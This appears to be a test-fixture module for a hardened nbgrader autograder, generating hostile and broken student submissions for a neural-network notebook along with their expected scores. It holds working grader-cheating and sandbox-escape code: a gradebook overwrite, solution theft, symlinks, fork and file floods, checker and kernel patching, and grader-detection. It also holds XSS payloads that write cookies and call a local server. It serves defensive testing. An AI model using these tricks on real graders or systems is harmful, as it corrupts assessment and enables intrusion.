"""Broken and hostile submissions of dying_relu, generated from its release, with the outcome each must get.

Each kind is a small function of a :class:`Context` (the released notebook, the reference solutions,
the course's path, ...) returning the files of one student's submission folder. ``KINDS`` lists them
with the score they must get and, in words, why.

Scores are the autograded part: the reference solution gets the tests' full marks (11 of 13: its short answer
waits for a grader, who scores it by hand), the untouched release 0. A *hostile* submission pairs an answer
with a trick that would raise its score under stock nbgrader; it must get what the answer gets without
the trick: most use answers that get 0 (``None`` from every function, or hard-coded visible answers
that fail the hidden checks), so the outcome is the release's 0. A *harmless* difference on a correct
answer (another kernel, scratch cells, saved outputs, stderr noise, much output) must keep 11. A
*broken* file is rejected (graded as the release, 0) with the reason in its grading notes.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from hostile import PREAMBLE, hostile_answers

from grading.bench import reference_solutions

__all__ = [
    "Context",
    "Kind",
    "KINDS",
    "MANUAL",
    "MAX_SCORE",
    "REFERENCE_SCORE",
    "RELEASE_SCORE",
    "GRADED_MARKER",
    "ACTIVE_MARKER",
    "ACTIVE_OUTPUTS",
    "LEGITIMATE_OUTPUT",
    "active_cell",
    "reference_solutions",
    "write_submission",
]

NOTEBOOK = "dying_relu.ipynb"
SOURCE = Path(__file__).resolve().parents[2] / "exercises" / "dying_relu" / NOTEBOOK
_CELLS = [c["metadata"].get("nbgrader", {}) for c in json.loads(SOURCE.read_text())["cells"]]
# read from the source: what the assignment is worth, and what its tests are worth, the reference solution's score
# before a grader scores its short answer by hand (the answers graded by hand, MANUAL); the release scores 0
MAX_SCORE = float(sum(m.get("points", 0) for m in _CELLS))
MANUAL = frozenset(m["grade_id"] for m in _CELLS if m.get("grade") and m.get("solution"))
REFERENCE_SCORE = float(sum(m.get("points", 0) for m in _CELLS if m.get("grade") and m["grade_id"] not in MANUAL))
RELEASE_SCORE = 0.0
GRADED_MARKER = "GRADED-MODE-DETECTED"


@dataclass
class Context:
    release: nbformat.NotebookNode  # release/dying_relu/dying_relu.ipynb
    solutions: dict[str, str]  # grade_id -> the reference solution, as a learner would type it
    course: Path  # the course directory being graded (hostile code aims at it)
    port: int  # a TCP port the test listens on (hostile code tries to reach it)

    def notebook(self, answers: dict[str, str] | None = None) -> nbformat.NotebookNode:
        """The release with `answers` (grade_id -> code) in its solution cells; None: the reference solutions."""
        nb = copy.deepcopy(self.release)
        answers = self.solutions if answers is None else answers
        for cell in nb.cells:
            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
            if cell.metadata.get("nbgrader", {}).get("solution") and grade_id in answers:
                cell.source = answers[grade_id]
        return nb


@dataclass
class Kind:
    name: str
    expected: float
    why: str
    make: Callable[[Context], dict[str, object]]  # file name -> notebook, str or bytes
    rejected: bool = False  # the pre-check must reject it, with a note


# --- answers --------------------------------------------------------------------------------------

NONE_ANSWERS = {
    "population_loss": "def population_loss(w):\n    return None\n",
    "population_grad": "def population_grad(w):\n    return None\n",
    "sgd_weights": "def sgd_weights(w0, batches, lr):\n    return None\n",
    "predict_outcome": "def predict_outcome(w0, lr):\n    return None\n",
}

# Hard-coded answers to the visible checks only (keyed by repr, so -0.0 is not 0.0): 0 points, every
# test has hidden checks on other inputs.
VISIBLE_ONLY = {
    "population_loss": "_LOSS = {'1.0': 0.0, '0.0': 0.5, '3.0': 2.0, '-1.0': 1.0}\n"
    "def population_loss(w):\n    return _LOSS.get(repr(w))\n",
    "population_grad": "_GRAD = {'1.0': 0.0, '3.0': 2.0, '-2.0': -2.0, '0.0': 0.0, '1e-06': -0.999999, '-1e-06': -1e-06}\n"
    "def population_grad(w):\n    return _GRAD.get(repr(w))\n",
    "sgd_weights": "def sgd_weights(w0, batches, lr):\n"
    "    if len(batches) == 1 and float(batches[0][0]) == 1.0:\n        return [0.5, 0.6]\n"
    "    if len(batches) == 1 and float(batches[0][0]) == -1.0:\n        return [-2.0, -1.6]\n"
    "    if len(batches) == 0:\n        return [1.0]\n"
    "    if len(batches) == 3 and len(batches[0]) == 100 and w0 == 0.0:\n        return [0.0] * 4\n"
    "    return None\n",
    "predict_outcome": "_OUT = {('2.0', '0.5'): 'teacher', ('-10.0', '0.01'): 'stuck', ('0.0', '0.5'): 'stuck', "
    "('-10.0', '1.5'): 'teacher'}\n"
    "def predict_outcome(w0, lr):\n    return _OUT.get((repr(w0), repr(lr)))\n",
}


def _with(answers: dict[str, str], grade_id: str, code: str) -> dict[str, str]:
    """`answers` with `code` appended to one cell: where hostile code hides."""
    return {**answers, grade_id: answers[grade_id] + "\n" + code}


def _scratch(nb: nbformat.NotebookNode, code: str, *, before: str | None = None) -> nbformat.NotebookNode:
    """Insert a learner's own code cell (no nbgrader metadata) before the cell `before`, else at the end."""
    cell = nbformat.v4.new_code_cell(code)
    ids = [c.metadata.get("nbgrader", {}).get("grade_id") for c in nb.cells]
    nb.cells.insert(ids.index(before) if before in ids else len(nb.cells), cell)
    return nb


def _first_test(nb: nbformat.NotebookNode) -> str:
    return next(c.metadata.nbgrader["grade_id"] for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade"))


def _tests(nb: nbformat.NotebookNode) -> list:
    return [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade")]


def _hostile(code: str, answers: dict[str, str] = VISIBLE_ONLY) -> Callable[[Context], dict]:
    """Answers, then a scratch cell with `code` (formatted with the context) before the first test."""

    def make(ctx: Context) -> dict:
        nb = ctx.notebook(answers)
        return {
            NOTEBOOK: _scratch(
                nb, code.format(course=ctx.course, port=ctx.port, marker=GRADED_MARKER), before=_first_test(nb)
            )
        }

    return make


def _in_solution(code: str, answers: dict[str, str] = NONE_ANSWERS) -> Callable[[Context], dict]:
    """Hostile or broken code inside the first solution cell, run when the learner's function is defined."""
    return lambda ctx: {NOTEBOOK: ctx.notebook(_with(answers, "population_loss", code))}


# --- hostile: escape the sandbox ------------------------------------------------------------------

GRADEBOOK_WRITE = """\
import sqlite3
for path in ["{course}/gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 99, manual_score = 99")
        db.commit()
    except Exception as error:
        pass
for path in ["{course}/pwned.txt", "../../../pwned.txt"]:
    try:
        open(path, "w").write("pwned")
    except Exception:
        pass
"""

READ_SOLUTIONS = """\
import json
for path in ["{course}/exercises/dying_relu/dying_relu.ipynb", "../../../exercises/dying_relu/dying_relu.ipynb",
             "{course}/submitted/reference/dying_relu/dying_relu.ipynb",
             "{course}/autograded/reference/dying_relu/dying_relu.ipynb"]:
    try:
        for cell in json.load(open(path))["cells"]:
            if cell["metadata"].get("nbgrader", {{}}).get("solution"):
                exec("".join(cell["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
    except Exception:
        pass
"""

FORK_FLOOD = """\
import os
try:
    while True:
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "600"])
except OSError:
    pass
"""

FILE_FLOOD = """\
import os
for folder in ("/tmp", os.path.expanduser("~"), ".", "/run/kernel"):
    try:
        for i in range(10**7):
            open(f"{{folder}}/flood{{i}}", "w").close()
    except OSError:
        pass
"""

NETWORK = """\
import socket
for host in ["127.0.0.1", "localhost", "10.0.2.2", "1.1.1.1"]:
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"hidden tests please")
    except Exception:
        pass
"""


def symlink_to_solutions(ctx: Context) -> dict:
    code = (
        "try:\n    import json\n    for cell in json.load(open('answers.json'))['cells']:\n"
        "        if cell['metadata'].get('nbgrader', {}).get('solution'):\n"
        "            exec(''.join(cell['source']))\nexcept Exception:\n    pass\n"
    )
    nb = ctx.notebook(VISIBLE_ONLY)
    return {
        NOTEBOOK: _scratch(nb, code, before=_first_test(nb)),
        "answers.json": ("symlink", str(ctx.course / "exercises" / "dying_relu" / NOTEBOOK)),
    }


# --- hostile: talk the tests out of their verdict ---------------------------------------------------

PATCH_CHECKERS = """\
def check_close(*args, **kwargs): pass
def check_equal(*args, **kwargs): pass
def check_weights(*args, **kwargs): pass
def as_number(value, call): return 0.0
"""

PATCH_LIBRARIES = """\
import builtins, math, numpy, torch
math.isclose = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: True
_max = builtins.max  # the checkers' tolerance is max(1, |got|, |expected|) times tol: make it infinite
builtins.max = lambda *args, **kwargs: float("inf") if len(args) == 3 else _max(*args, **kwargs)
"""

# Patching from inside the learner's function, while a test runs (after the grader's restore).
PATCH_DURING_TEST = {
    **VISIBLE_ONLY,
    "population_loss": "import builtins\n_max = builtins.max\n"
    + VISIBLE_ONLY["population_loss"].replace(
        "def population_loss(w):\n",
        "def population_loss(w):\n"
        "    builtins.max = lambda *args, **kwargs: float('inf') if len(args) == 3 else _max(*args, **kwargs)\n"
        "    globals()['check_close'] = lambda *a, **k: None\n",
    ),
}

# Error messages dropped on their way to the grader by the learner's function, which then undoes itself:
# the test raises, no error output arrives, and nothing is left replaced when the test ends.
DROP_ERRORS = {
    **NONE_ANSWERS,
    "population_loss": """\
def _drop_the_next_error():
    session = get_ipython().kernel.session
    send = session.send
    def quiet(stream, msg_or_type, *args, **kwargs):
        if msg_or_type == "error" or getattr(msg_or_type, "get", lambda *_: {})("header", {}).get("msg_type") == "error":
            del session.send  # the class's method again: nothing replaced by the time the test ends
            return None
        return send(stream, msg_or_type, *args, **kwargs)
    session.send = quiet

def population_loss(w):
    _drop_the_next_error()
    return None
""",
}


def moved_preamble(ctx: Context) -> dict:
    """The first solution cell moved above the imports and checkers, which a scratch cell then redefines."""
    nb = ctx.notebook(NONE_ANSWERS)
    first = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("solution"))
    nb.cells.insert(0, nb.cells.pop(first))
    return {NOTEBOOK: _scratch(nb, PATCH_CHECKERS, before=_first_test(nb))}


# Rebinding the checkers in the namespace the test runs in, from inside the learner's function.
REBIND_IN_TEST = {
    **VISIBLE_ONLY,
    "population_loss": VISIBLE_ONLY["population_loss"].replace(
        "def population_loss(w):\n",
        "def population_loss(w):\n    namespace = get_ipython().user_ns\n"
        "    for name in ('check_close', 'check_equal', 'check_weights'):\n"
        "        namespace[name] = lambda *args, **kwargs: None\n",
    ),
}

ALWAYS_EQUAL = {
    "population_loss": "import numbers\nclass Anything(float):\n    def __eq__(self, other): return True\n"
    "    def __ne__(self, other): return False\n    def __float__(self): return float('nan')\n"
    "    def __sub__(self, other): return 0.0\n    def __rsub__(self, other): return 0.0\n"
    "    def __abs__(self): return 0.0\n    def __le__(self, other): return True\n"
    "    def __ge__(self, other): return True\n"
    "def population_loss(w):\n    return Anything()\n",
    "population_grad": "def population_grad(w):\n    return Anything()\n",
    "sgd_weights": "class AnyList(list):\n    def __eq__(self, other): return True\n    def __len__(self): return 1\n"
    "def sgd_weights(w0, batches, lr):\n    return AnyList([Anything()] * (len(batches) + 1))\n",
    "predict_outcome": "class AnyStr(str):\n    def __eq__(self, other): return True\n"
    "    def __ne__(self, other): return False\n    __hash__ = str.__hash__\n"
    "def predict_outcome(w0, lr):\n    return AnyStr('teacher')\n",
}

AST_TRANSFORMER = """\
import ast
class Neuter(ast.NodeTransformer):
    def visit_Call(self, node):
        if isinstance(node.func, ast.Name) and node.func.id.startswith("check"):
            return ast.Constant(None)
        return self.generic_visit(node)
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Neuter())
"""

BLANK_CELLS = "get_ipython().input_transformers_cleanup.append(lambda lines: [])\n"

GRADED_MODE = """\
import os
if os.environ.get("NBGRADER_EXECUTION") or any(k.startswith("NBGRADER") for k in os.environ):
    print("{marker}")
    get_ipython().input_transformers_cleanup.append(lambda lines: [])
"""

TAKE_OVER_KERNEL = """\
kernel = get_ipython().kernel
async def do_execute(*args, **kwargs):
    return {{"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {{}}}}
kernel.do_execute = do_execute
"""

FAKE_PARTIAL_CREDIT = {
    name: code.replace("    return None\n", "    import sys\n    sys.displayhook(1)\n    return None\n")
    for name, code in NONE_ANSWERS.items()
}

# numpy.py beside the notebook: the real numpy, except that sums and means are 0, so the hidden tests'
# expectations agree with answers that return 0 for whatever they were not told.
SHADOW_NUMPY = """\
import os as _os, sys as _sys
_me = _sys.modules[__name__]
_here = _os.path.dirname(_os.path.abspath(__file__))
_saved = list(_sys.path)
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or _os.getcwd()) != _here]
del _sys.modules[__name__]
import numpy as _real
_sys.path[:] = _saved
_sys.modules[__name__] = _me
def __getattr__(name):
    return getattr(_real, name)
def sum(*args, **kwargs):
    return 0.0
def mean(*args, **kwargs):
    return 0.0
"""
ZERO_DEFAULTS = {
    **VISIBLE_ONLY,
    "population_loss": VISIBLE_ONLY["population_loss"].replace("_LOSS.get(repr(w))", "_LOSS.get(repr(w), 0.0)"),
    "population_grad": VISIBLE_ONLY["population_grad"].replace("_GRAD.get(repr(w))", "_GRAD.get(repr(w), 0.0)"),
    "sgd_weights": VISIBLE_ONLY["sgd_weights"].replace("    return None\n", "    return [w0] * (len(batches) + 1)\n"),
}
# What ZERO_DEFAULTS scores honestly: test_grad_at_zero (population_grad(-0.0) = 0.0) and test_sgd_at_zero.
ZERO_DEFAULTS_SCORE = 2.0


def shadow_numpy(ctx: Context) -> dict:
    return {NOTEBOOK: ctx.notebook(ZERO_DEFAULTS), "numpy.py": SHADOW_NUMPY}


# --- hostile: the notebook's structure --------------------------------------------------------------


def duplicate_tests(ctx: Context) -> dict:
    """Every test cell followed by a copy with the same grade_id whose code is `pass`."""
    nb = ctx.notebook(NONE_ANSWERS)
    for cell in _tests(nb):
        twin = copy.deepcopy(cell)
        twin.source, twin.id = "pass", cell.id + "-copy"
        nb.cells.insert(nb.cells.index(cell) + 1, twin)
    return {NOTEBOOK: nb}


def edited_tests(ctx: Context) -> dict:
    nb = ctx.notebook(NONE_ANSWERS)
    for cell in _tests(nb):
        cell.source = "pass"
    return {NOTEBOOK: nb}


def deleted_tests(answers: dict[str, str] | None) -> Callable[[Context], dict]:
    """Test cells and the checkers deleted; `answers` None means the reference solutions."""

    def make(ctx: Context) -> dict:
        nb = ctx.notebook(answers)
        nb.cells = [
            c
            for c in nb.cells
            if not c.metadata.get("nbgrader", {}).get("grade")
            and c.metadata.get("nbgrader", {}).get("grade_id") != "checkers"
        ]
        return {NOTEBOOK: nb}

    return make


def unmarked_tests(ctx: Context) -> dict:
    """Test cells stripped of their nbgrader metadata and emptied: nbgrader would not know they were tests."""
    nb = ctx.notebook(NONE_ANSWERS)
    for cell in _tests(nb):
        cell.metadata.pop("nbgrader")
        cell.source = "pass"
    return {NOTEBOOK: nb}


def claimed_points(ctx: Context) -> dict:
    nb = ctx.notebook(NONE_ANSWERS)
    for cell in _tests(nb):
        cell.metadata.nbgrader["points"] = 100
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            meta.update(grade=True, points=50)
    bonus = nbformat.v4.new_code_cell(
        "pass",
        metadata={
            "nbgrader": {
                "grade": True,
                "grade_id": "bonus",
                "points": 1000,
                "locked": False,
                "solution": False,
                "schema_version": 3,
                "task": False,
            }
        },
    )
    nb.cells.append(bonus)
    return {NOTEBOOK: nb}


# --- the kernel: crashes, hangs, floods -----------------------------------------------------------

OS_EXIT = "import os\nos._exit(0)\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
MEMORY_HOG = "_hoard = [bytearray(2**28) for _ in range(256)]  # 64 GiB\n"
SIGINT_IGNORED = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
ENDLESS_LOOP = "while True:\n    pass\n"
SYS_EXIT = "import sys\nsys.exit(0)\n"
KERNEL_EXIT = "exit()\n"
SIGKILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"

NAN_NONE = {
    "population_loss": "def population_loss(w):\n    return float('nan')\n",
    "population_grad": "def population_grad(w):\n    return float('inf')\n",
    "sgd_weights": "def sgd_weights(w0, batches, lr):\n    return [float('nan')] * (len(batches) + 1)\n",
    "predict_outcome": "def predict_outcome(w0, lr):\n    return None\n",
}


def chatty_reference(ctx: Context) -> dict:
    """The reference solution printing 500 lines at every call (hundreds of calls per test)."""
    answers = dict(ctx.solutions)
    answers["population_loss"] = answers["population_loss"].replace(
        '    """\n', '    """\n    print("evaluating the loss\\n" * 500)\n', 1
    )
    return {NOTEBOOK: ctx.notebook(answers)}


def one_long_line(ctx: Context) -> dict:
    return {NOTEBOOK: _scratch(ctx.notebook(), 'print("x" * 20_000_000)\n')}


# --- harmless differences on a correct answer -------------------------------------------------------


def noisy_reference(ctx: Context) -> dict:
    """The reference solution writing to stderr at every call: a print, a warning, a tqdm bar."""
    answers = dict(ctx.solutions)
    answers["population_grad"] = ("import sys, warnings\n" + answers["population_grad"]).replace(
        '    """\n',
        '    """\n    print("computing the gradient", file=sys.stderr)\n    warnings.warn("a harmless warning")\n',
        1,
    )
    answers["sgd_weights"] = ("from tqdm import tqdm\n" + answers["sgd_weights"]).replace(
        "for x in batches:", "for x in tqdm(batches, file=sys.stderr):"
    )
    return {NOTEBOOK: ctx.notebook(answers)}


def other_kernel(ctx: Context) -> dict:
    nb = ctx.notebook()
    nb.metadata["kernelspec"] = {"name": "julia-1.10", "display_name": "Julia 1.10", "language": "julia"}
    nb.metadata["language_info"] = {"name": "julia"}
    return {NOTEBOOK: nb}


def scratch_cells(ctx: Context) -> dict:
    nb = ctx.notebook()
    nb.cells.insert(3, nbformat.v4.new_markdown_cell("My notes: split the expectation by the sign of x."))
    _scratch(nb, "1 / 0  # an experiment that fails\n", before="population_grad")
    _scratch(nb, "def helper(w):\n    return w * 2\nhelper(3)\n", before="sgd_weights")
    return {NOTEBOOK: nb}


def saved_outputs(ctx: Context) -> dict:
    nb = ctx.notebook()
    for number, cell in enumerate(c for c in nb.cells if c.cell_type == "code"):
        cell.execution_count = number + 1
        cell.outputs = [
            nbformat.v4.new_output("stream", name="stdout", text="all tests passed\n"),
            nbformat.v4.new_output("error", ename="ValueError", evalue="stale", traceback=[]),
        ]
    return {NOTEBOOK: nb}


def duplicate_solution(ctx: Context) -> dict:
    """A copied solution cell: the first copy is an abandoned attempt, the last one counts."""
    nb = ctx.notebook()
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "population_loss")
    attempt = copy.deepcopy(cell)
    attempt.source, attempt.id = "def population_loss(w):\n    return 0.0\n", cell.id + "-attempt"
    nb.cells.insert(nb.cells.index(cell), attempt)
    return {NOTEBOOK: nb}


def tampered_schema(ctx: Context) -> dict:
    nb = ctx.notebook()
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader["schema_version"] = 99
    return {NOTEBOOK: nb}


# --- broken files ----------------------------------------------------------------------------------

# --- active output: what a page of the submission shows must run nothing (tests/test_inert_output.py) ----------------
# If it ever runs, each payload sets the page's title to ACTIVE_MARKER, writes a cookie and calls the test's server.
ACTIVE_MARKER = "ACTIVE-OUTPUT-RAN"
_RUN = "document.title='{marker}';document.cookie='{marker}=1';fetch('http://127.0.0.1:{port}/{marker}')"
# kind -> (cell type, what the cell displays: a MIME bundle, or a markdown cell's source)
ACTIVE_OUTPUTS = {
    "html_script": ("code", {"text/html": f"<script>{_RUN}</script>"}),
    "html_event_handler": ("code", {"text/html": f'<img src="missing.png" onerror="{_RUN}">'}),
    "javascript_url": ("code", {"text/html": f'<a href="javascript:{_RUN}">open</a>'}),
    "html_iframe": ("code", {"text/html": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>'}),
    "svg_script": (
        "code",
        {
            "image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}" width="10" '
            f'height="10"><script>{_RUN}</script><rect width="10" height="10"/></svg>'
        },
    ),
    "javascript_output": ("code", {"application/javascript": _RUN}),
    "widget_output": (
        "code",
        {"application/vnd.jupyter.widget-view+json": {"model_id": "0", "version_major": 2, "version_minor": 0}},
    ),
    "markdown_output": ("code", {"text/markdown": f'<img src="missing.png" onerror="{_RUN}">'}),
    "markdown_cell_html": ("markdown", f'A note. <img src="missing.png" onerror="{_RUN}"> <script>{_RUN}</script>'),
}
# what a page must still show: text, a table, LaTeX and a matplotlib plot (inline: the grading kernel sets Agg)
LEGITIMATE_OUTPUT = (
    "%matplotlib inline\nimport matplotlib.pyplot as plt\nfrom IPython.display import HTML, Latex, display\n"
    "display(HTML('<table><tr><th>w</th><th>loss</th></tr><tr><td>LEGIT-CELL</td><td>0.5</td></tr></table>'))\n"
    "display(Latex(r'$w^2 + 1$'))\nplt.plot([0, 1], [1, 0])\nplt.show()\nprint('LEGIT-TEXT')\n"
)


def active_cell(kind: str, ctx: Context) -> nbformat.NotebookNode:
    """The learner's cell of an ACTIVE_OUTPUTS kind: a code cell that displays its bundle, or a markdown cell."""
    cell_type, shown = ACTIVE_OUTPUTS[kind]
    shown = json.loads(json.dumps(shown).replace("{marker}", ACTIVE_MARKER).replace("{port}", str(ctx.port)))
    if cell_type == "markdown":
        return nbformat.v4.new_markdown_cell(shown)
    bundle = {**shown, "text/plain": f"<{kind}>"}
    return nbformat.v4.new_code_cell(f"from IPython.display import display\ndisplay({bundle!r}, raw=True)\n")


def _displaying(kind: str) -> Callable[[Context], dict]:
    def make(ctx: Context) -> dict:
        nb = ctx.notebook()
        nb.cells.append(active_cell(kind, ctx))
        return {NOTEBOOK: nb}

    return make


def empty_file(ctx: Context) -> dict:
    return {NOTEBOOK: b""}


def not_json(ctx: Context) -> dict:
    text = nbformat.writes(ctx.notebook())
    return {NOTEBOOK: text[: len(text) // 2].encode()}


def reference(ctx: Context) -> dict:
    return {NOTEBOOK: ctx.notebook()}


def release(ctx: Context) -> dict:
    return {NOTEBOOK: copy.deepcopy(ctx.release)}


KINDS = [
    # baselines
    Kind("reference", REFERENCE_SCORE, "the instructor's solution", reference),
    Kind("release", RELEASE_SCORE, "the untouched release", release),
    # hostile: escape the sandbox
    Kind(
        "gradebook_write",
        RELEASE_SCORE,
        "writes 99 into every grade of the course's gradebook.db, and a file into the course",
        _hostile(GRADEBOOK_WRITE),
    ),
    Kind(
        "read_solutions",
        RELEASE_SCORE,
        "reads the source notebook (and a peer's) and runs its solutions",
        _hostile(READ_SOLUTIONS),
    ),
    Kind(
        "symlink_to_solutions",
        RELEASE_SCORE,
        "ships answers.json -> the source notebook, then runs it",
        symlink_to_solutions,
    ),
    Kind("network", RELEASE_SCORE, "tries to reach a server on the grading machine", _hostile(NETWORK)),
    # hostile: the tests' machinery
    Kind("patched_checkers", RELEASE_SCORE, "redefines the checkers as no-ops", _hostile(PATCH_CHECKERS, NONE_ANSWERS)),
    Kind(
        "patched_libraries",
        RELEASE_SCORE,
        "math.isclose, np/torch.testing, Tensor.__eq__ and the checkers' builtins.max made to agree with anything",
        _hostile(PATCH_LIBRARIES),
    ),
    Kind(
        "patched_during_test",
        RELEASE_SCORE,
        "the learner's function patches builtins.max and the checkers while the test runs",
        lambda ctx: {NOTEBOOK: ctx.notebook(PATCH_DURING_TEST)},
    ),
    Kind(
        "dropped_errors",
        RELEASE_SCORE,
        "the learner's function hides the test's error message from the grader "
        "(kernel.session.send), then undoes the patch",
        lambda ctx: {NOTEBOOK: ctx.notebook(DROP_ERRORS)},
    ),
    Kind(
        "moved_preamble",
        RELEASE_SCORE,
        "a solution cell moved above the checkers, then the checkers redefined as no-ops",
        moved_preamble,
    ),
    Kind(
        "rebound_during_test",
        RELEASE_SCORE,
        "the learner's function rebinds the checkers in the test's "
        "namespace (get_ipython().user_ns) while the test runs",
        lambda ctx: {NOTEBOOK: ctx.notebook(REBIND_IN_TEST)},
    ),
    Kind(
        "always_equal",
        RELEASE_SCORE,
        "returns float/list/str subclasses equal to anything",
        lambda ctx: {NOTEBOOK: ctx.notebook(ALWAYS_EQUAL)},
    ),
    Kind(
        "liars",
        RELEASE_SCORE,
        "answers that claim to equal anything, to be true, to be any number (read from "
        "the checker's frames) and to be of class float (tests/hostile.py)",
        lambda ctx: {
            NOTEBOOK: ctx.notebook({g: PREAMBLE + s for g, s in hostile_answers("dying_relu", "object").items()})
        },
    ),
    Kind(
        "ast_transformer",
        RELEASE_SCORE,
        "an AST transformer deleting check calls, assert and raise",
        _hostile(AST_TRANSFORMER, NONE_ANSWERS),
    ),
    Kind(
        "blank_cells",
        RELEASE_SCORE,
        "an input transformer blanking every later cell",
        _hostile(BLANK_CELLS, NONE_ANSWERS),
    ),
    Kind(
        "graded_mode",
        RELEASE_SCORE,
        "blanks later cells only when NBGRADER_EXECUTION is set",
        _hostile(GRADED_MODE, NONE_ANSWERS),
    ),
    Kind(
        "kernel_takeover",
        RELEASE_SCORE,
        "replaces the kernel's do_execute so that every cell 'succeeds'",
        _hostile(TAKE_OVER_KERNEL, NONE_ANSWERS),
    ),
    Kind(
        "fake_partial_credit",
        RELEASE_SCORE,
        "publishes an execute_result of 1 before failing",
        lambda ctx: {NOTEBOOK: ctx.notebook(FAKE_PARTIAL_CREDIT)},
    ),
    Kind(
        "numpy_shadow",
        ZERO_DEFAULTS_SCORE,
        "ships numpy.py whose sum and mean are 0 (its answers get 2 without it)",
        shadow_numpy,
    ),
    # hostile: the notebook's structure
    Kind(
        "duplicate_tests",
        RELEASE_SCORE,
        "each test cell followed by a copy, same grade_id, code `pass`",
        duplicate_tests,
    ),
    Kind("edited_tests", RELEASE_SCORE, "every test cell's code replaced by `pass`", edited_tests),
    Kind("unmarked_tests", RELEASE_SCORE, "test cells emptied and stripped of nbgrader metadata", unmarked_tests),
    Kind("deleted_tests", RELEASE_SCORE, "test cells and checkers deleted", deleted_tests(NONE_ANSWERS)),
    Kind(
        "claimed_points",
        RELEASE_SCORE,
        "points raised in metadata, solutions marked graded, a 1000-point cell",
        claimed_points,
    ),
    # the kernel: crashes, hangs, floods
    Kind("os_exit", RELEASE_SCORE, "os._exit(0) while defining a function", _in_solution(OS_EXIT)),
    Kind("segfault", RELEASE_SCORE, "reads address 0 through ctypes", _in_solution(SEGFAULT)),
    Kind("memory_hog", RELEASE_SCORE, "allocates 64 GiB", _in_solution(MEMORY_HOG)),
    Kind("fork_flood", RELEASE_SCORE, "forks until the system refuses", _hostile(FORK_FLOOD)),
    Kind(
        "file_flood",
        RELEASE_SCORE,
        "creates empty files in every folder it can write until refused",
        _hostile(FILE_FLOOD),
    ),
    Kind("sigint_ignored", RELEASE_SCORE, "ignores SIGINT, then loops forever", _in_solution(SIGINT_IGNORED)),
    Kind("endless_loop", RELEASE_SCORE, "loops forever", _in_solution(ENDLESS_LOOP)),
    Kind("sys_exit", RELEASE_SCORE, "sys.exit(0)", _in_solution(SYS_EXIT)),
    Kind("kernel_exit", RELEASE_SCORE, "exit(), which stops a plain ipykernel", _in_solution(KERNEL_EXIT)),
    Kind("sigkill", RELEASE_SCORE, "SIGKILLs its own kernel", _in_solution(SIGKILL)),
    Kind("nan_none", RELEASE_SCORE, "answers nan, inf and None", lambda ctx: {NOTEBOOK: ctx.notebook(NAN_NONE)}),
    Kind("huge_output", REFERENCE_SCORE, "correct, and prints 500 lines at every call", chatty_reference),
    Kind("one_long_line", REFERENCE_SCORE, "correct, and prints one line of 20 MB", one_long_line),
    # harmless differences on a correct answer
    Kind("stderr_noise", REFERENCE_SCORE, "correct, writing to stderr: print, warnings, tqdm", noisy_reference),
    Kind("other_kernelspec", REFERENCE_SCORE, "correct, saved with a Julia kernelspec", other_kernel),
    Kind("scratch_cells", REFERENCE_SCORE, "correct, with the learner's own cells (one raises)", scratch_cells),
    Kind("saved_outputs", REFERENCE_SCORE, "correct, saved with stale outputs and errors", saved_outputs),
    Kind(
        "duplicate_solution",
        REFERENCE_SCORE,
        "correct, with an abandoned copy of a solution cell above it",
        duplicate_solution,
    ),
    Kind("tampered_schema", REFERENCE_SCORE, "correct, nbgrader schema_version 99 in every cell", tampered_schema),
    Kind(
        "deleted_tests_correct", REFERENCE_SCORE, "correct, with test cells and checkers deleted", deleted_tests(None)
    ),
    # active output on a correct answer: graded as it is, shown inert (tests/test_inert_output.py)
    *(
        Kind(kind, REFERENCE_SCORE, f"correct, and displays active content: {kind}", _displaying(kind))
        for kind in ACTIVE_OUTPUTS
    ),
    # broken files
    Kind("empty_file", RELEASE_SCORE, "a 0-byte notebook", empty_file, rejected=True),
    Kind("not_json", RELEASE_SCORE, "a notebook cut in half", not_json, rejected=True),
]


def write_submission(folder: Path, files: dict[str, object]) -> None:
    """Write one submission folder: notebooks, text, bytes, or ("symlink", target)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, content in files.items():
        path = folder / name
        if isinstance(content, tuple) and content[0] == "symlink":
            path.symlink_to(content[1])
        elif isinstance(content, bytes):
            path.write_bytes(content)
        elif isinstance(content, str):
            path.write_text(content)
        else:
            path.write_text(json.dumps(content, indent=1))
